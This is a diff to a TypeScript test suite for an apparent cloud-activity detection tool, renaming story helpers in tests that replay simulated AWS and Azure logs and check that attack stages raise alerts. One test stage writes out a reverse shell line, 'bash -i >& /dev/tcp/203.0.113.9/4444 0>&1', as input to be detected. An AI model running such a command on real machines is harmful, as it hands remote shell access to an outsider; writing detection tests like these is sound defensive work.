@@ -1,8 +1,8 @@
 import { application, AZURE_PORTAL, OFFICE, person } from '../../scripts/examples/activity-log'
 import { role, user, type AwsCaller } from '../../scripts/examples/aws-callers'
 import { AUTOMATION_ACCOUNT, instance, PARTNER_ACCOUNT, vm } from '../../scripts/examples/ids'
-import { story, type Story } from '../../scripts/examples/story'
-import { dateOf, tellOrdinaryMonth } from './ordinary-month'
+import { newStory, type Story } from '../../scripts/examples/story'
+import { dateOf, writeOrdinaryMonth } from './ordinary-month'
 import { ACCESS, HOSTING, scanStory, VPN } from './scenario'
 
 const LEARNING = { RUNWARDEN_LEARNING_DAYS: '7' }
@@ -27,7 +27,7 @@ const throughEvents = ({ userIdentity }: AwsCaller): AwsCaller => ({
 
 interface Stage {
   readonly name: string
-  readonly tell: (told: Story) => void
+  readonly write: (story: Story) => void
   /** Rule of the alert that must go out, and its severity. */
   readonly expected: string
 }
@@ -35,39 +35,39 @@ interface Stage {
 const STAGES: readonly Stage[] = [
   {
     name: 'somebody new sends a command',
-    tell: (told) => void told.send(at(1), user('mallory', { ip: ACCESS }), { instances: [fleet[0]!] }),
+    write: (story) => void story.send(at(1), user('mallory', { ip: ACCESS }), { instances: [fleet[0]!] }),
     expected: 'first-seen-caller medium',
   },
   {
     name: 'somebody new through a service that others have long used',
-    tell: (told) =>
-      void told.send(at(1), throughEvents(user('mallory', { ip: '' })), { instances: [fleet[0]!] }, [
+    write: (story) =>
+      void story.send(at(1), throughEvents(user('mallory', { ip: '' })), { instances: [fleet[0]!] }, [
         '/opt/rotate-logs.sh',
       ]),
     expected: 'first-seen-caller medium',
   },
   {
     name: "the pipeline's role through a VPN",
-    tell: (told) => void told.send(at(1), deploy(VPN), { instances: [fleet[0]!] }),
+    write: (story) => void story.send(at(1), deploy(VPN), { instances: [fleet[0]!] }),
     expected: 'anonymised-source high',
   },
   {
     name: 'another script by the pipeline on its fleet',
-    tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: fleet }, ['tar czf /tmp/a.tgz /srv']),
+    write: (story) => void story.send(at(18), deploy(HOSTING), { instances: fleet }, ['tar czf /tmp/a.tgz /srv']),
     expected: 'mass-execution medium',
   },
   {
     name: 'a reverse shell by the pipeline on one machine',
-    tell: (told) =>
-      void told.send(at(18), deploy(HOSTING), { instances: [fleet[0]!] }, [
+    write: (story) =>
+      void story.send(at(18), deploy(HOSTING), { instances: [fleet[0]!] }, [
         'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
       ]),
     expected: 'suspicious-command high',
   },
   {
     name: 'a document of another account',
-    tell: (told) =>
-      void told.send(at(18), deploy(HOSTING), {
+    write: (story) =>
+      void story.send(at(18), deploy(HOSTING), {
         instances: [fleet[0]!],
         document: `arn:aws:ssm:eu-west-1:${PARTNER_ACCOUNT}:document/Shop-Deploy`,
       }),
@@ -75,9 +75,9 @@ const STAGES: readonly Stage[] = [
   },
   {
     name: 'an association for all machines by the pipeline',
-    tell: (told) =>
-      void told.trail.push(
-        told.cloudTrail.call(
+    write: (story) =>
+      void story.trail.push(
+        story.cloudTrail.call(
           at(18),
           deploy(HOSTING),
           'ssm:CreateAssociation',
@@ -93,9 +93,9 @@ const STAGES: readonly Stage[] = [
   },
   {
     name: 'an association for many machines by those who make associations',
-    tell: (told) =>
-      void told.trail.push(
-        told.cloudTrail.call(
+    write: (story) =>
+      void story.trail.push(
+        story.cloudTrail.call(
           at(18),
           role('Terraform', 'apply-18', { ip: ACCESS }),
           'ssm:CreateAssociation',
@@ -107,9 +107,9 @@ const STAGES: readonly Stage[] = [
   },
   {
     name: 'a shell in a container with the role of a machine',
-    tell: (told) =>
-      void told.trail.push(
-        told.cloudTrail.call(
+    write: (story) =>
+      void story.trail.push(
+        story.cloudTrail.call(
           at(1),
           role('Web', fleet[0]!, { ip: ACCESS }),
           'ecs:ExecuteCommand',
@@ -121,26 +121,26 @@ const STAGES: readonly Stage[] = [
   },
   {
     name: 'an Azure run command by somebody new',
-    tell: (told) => told.operation(at(1), person('mallory@example.com', 0x66, { ip: ACCESS }), RUN, vm('vm-1')),
+    write: (story) => story.operation(at(1), person('mallory@example.com', 0x66, { ip: ACCESS }), RUN, vm('vm-1')),
     expected: 'first-seen-caller medium',
   },
   {
     name: 'a token of Office',
-    tell: (told) => told.operation(at(1), alice(OFFICE), RUN, vm('vm-1')),
+    write: (story) => story.operation(at(1), alice(OFFICE), RUN, vm('vm-1')),
     expected: 'unexpected-client high',
   },
   {
     name: 'a runbook by somebody who never wrote one',
-    tell: (told) => {
-      told.operation(at(1), alice(AZURE_PORTAL), `${AUTOMATION}/runbooks/write`, `${AUTOMATION_ACCOUNT}/runbooks/Sync`)
-      told.operation(at(1, 2), alice(AZURE_PORTAL), `${AUTOMATION}/jobs/write`, `${AUTOMATION_ACCOUNT}/jobs/sync-1`)
+    write: (story) => {
+      story.operation(at(1), alice(AZURE_PORTAL), `${AUTOMATION}/runbooks/write`, `${AUTOMATION_ACCOUNT}/runbooks/Sync`)
+      story.operation(at(1, 2), alice(AZURE_PORTAL), `${AUTOMATION}/jobs/write`, `${AUTOMATION_ACCOUNT}/jobs/sync-1`)
     },
     expected: 'automation-runbook medium',
   },
   {
     name: 'a script extension by who rolls out agents',
-    tell: (told) =>
-      told.operation(at(1), application(0x31, ACCESS), EXTENSION, `${vm('vm-1')}/extensions/AzureMonitorLinuxAgent`, {
+    write: (story) =>
+      story.operation(at(1), application(0x31, ACCESS), EXTENSION, `${vm('vm-1')}/extensions/AzureMonitorLinuxAgent`, {
         requestBody: { properties: { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript' } },
       }),
     expected: 'first-seen-caller medium',
@@ -151,9 +151,9 @@ const weekOf = (time: string): number => [1, 2, 3, 4].find((week) => time.slice(
 
 describe('four ordinary weeks', () => {
   it('bring mails about what comes once a week until it came three times, and none about what comes daily', async () => {
-    const told = story()
-    tellOrdinaryMonth(told)
-    const { alerts, activities } = await scanStory(told, LEARNING)
+    const story = newStory()
+    writeOrdinaryMonth(story)
+    const { alerts, activities } = await scanStory(story, LEARNING)
     const mails = (week: number): readonly string[] =>
       alerts
         .filter(({ time }) => weekOf(time) === week)
@@ -177,9 +177,9 @@ describe('four ordinary weeks', () => {
   })
 
   it('bring fewer where history is longer than a week', async () => {
-    const told = story()
-    tellOrdinaryMonth(told)
-    const { alerts } = await scanStory(told, { ...LEARNING, RUNWARDEN_HISTORY_DAYS: '15' })
+    const story = newStory()
+    writeOrdinaryMonth(story)
+    const { alerts } = await scanStory(story, { ...LEARNING, RUNWARDEN_HISTORY_DAYS: '15' })
     expect(
       alerts.filter(
         ({ time, findings }) =>
@@ -190,11 +190,11 @@ describe('four ordinary weeks', () => {
 
   it.each(STAGES.map((stage) => [stage.name, stage] as const))(
     'hide nothing of an attack: %s',
-    async (_name, { tell, expected }) => {
-      const told = story()
-      tellOrdinaryMonth(told)
-      tell(told)
-      const { alerts } = await scanStory(told, LEARNING)
+    async (_name, { write, expected }) => {
+      const story = newStory()
+      writeOrdinaryMonth(story)
+      write(story)
+      const { alerts } = await scanStory(story, LEARNING)
       const spoken = alerts
         .filter(({ time }) => time.startsWith(ATTACK_DAY))
         .flatMap(({ findings }) =>
